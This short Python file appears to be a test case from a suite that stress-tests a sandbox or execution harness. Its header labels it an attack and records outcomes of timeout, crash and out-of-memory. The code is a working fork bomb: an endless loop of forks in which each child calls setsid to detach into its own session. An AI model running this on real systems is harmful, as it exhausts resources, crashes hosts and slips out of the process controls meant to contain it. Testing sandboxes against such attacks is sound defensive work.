# Attack: make processes without end before anything was asked, each in a session of its own
# Outcome: timed_out crashed out_of_memory
# Not in: process
import os

while True:
    try:
        if os.fork() == 0:
            os.setsid()
    except OSError:
        pass
